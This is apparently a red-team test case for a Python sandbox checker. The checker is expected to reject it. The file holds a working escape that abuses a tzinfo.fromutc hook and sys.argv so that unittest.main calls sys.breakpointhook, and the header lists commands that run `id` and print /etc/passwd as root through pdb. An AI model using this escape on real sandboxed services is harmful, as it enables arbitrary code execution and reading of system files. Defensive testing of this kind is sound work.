# expect: reject store
# line: 27
# why: the red team's round 26f ok_09 (its header below): a base written (B) or Outer.B is refused, so every walk of a class's program bases sees each base; a program instance or class handed to library code hands back what any of its methods returns that library code calls by name (library-duck names, non-fixed dunders, any method of a class with a library base)
# goal: FULL ESCAPE: runs `id` and reads /etc/passwd (pdb on stdin), through the sys.argv lever.
# mechanism: ok_05 (datetime.datetime.now(Z()) -> Z.fromutc -> run) appends "sys.breakpointhook"; unittest.main calls it.
# rule slipped: store, family M (see ok_05): fromutc is a library-duck hook whose result datetime.now returns unchecked.
# verify: the checker THIS -> exit 0;
#   printf '!import os; os.system("id")\n!print(open("/etc/passwd").read())\nc\n' | python3 THIS
#   -> uid=0(root) ... and the passwd file printed from inside pdb (the service passes a /run request's `stdin` on).
# why it matters: the sys.argv lever is not only "prints os.environ": unittest.loader calls any no-argument callable
#   the dotted name resolves to, and `sys.breakpointhook` (module-star-deny, `breakpoint` a forbidden builtin) resolves
#   from __main__'s `sys` and, called, imports pdb and runs its prompt on stdin: arbitrary code, real builtins, os.
#   Principle for the lever itself: a program that can write sys.argv decides what unittest.main imports, reads AND
#   CALLS; beyond closing each store, unittest.main without argv= (and TestProgram, and parseArgs) could be refused or
#   argv= required as a literal list, since sys.argv is the one library list whose content becomes code paths.
import contextlib
import logging
import sys
import unittest
import operator
import math
import copy
import datetime


def run(x, *a):
    x.append("sys.breakpointhook")
    return 0

class Z(datetime.tzinfo):
    def fromutc(self, dt):
        return run


es = contextlib.ExitStack()
es.callback(datetime.datetime.now(Z()), sys.argv)
es.close()
print(sys.argv)
unittest.main(exit=False)
